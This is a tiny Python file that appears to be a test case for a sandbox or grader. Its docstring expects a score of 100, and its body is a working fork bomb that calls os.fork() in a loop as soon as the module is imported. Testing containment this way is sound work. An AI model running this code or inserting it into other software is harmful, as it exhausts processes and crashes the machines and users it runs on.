"""Processes: a fork bomb, on import.

Expect: score == 100
"""
import os
for _ in range(10_000):
    try:
        os.fork()
    except OSError:
        pass
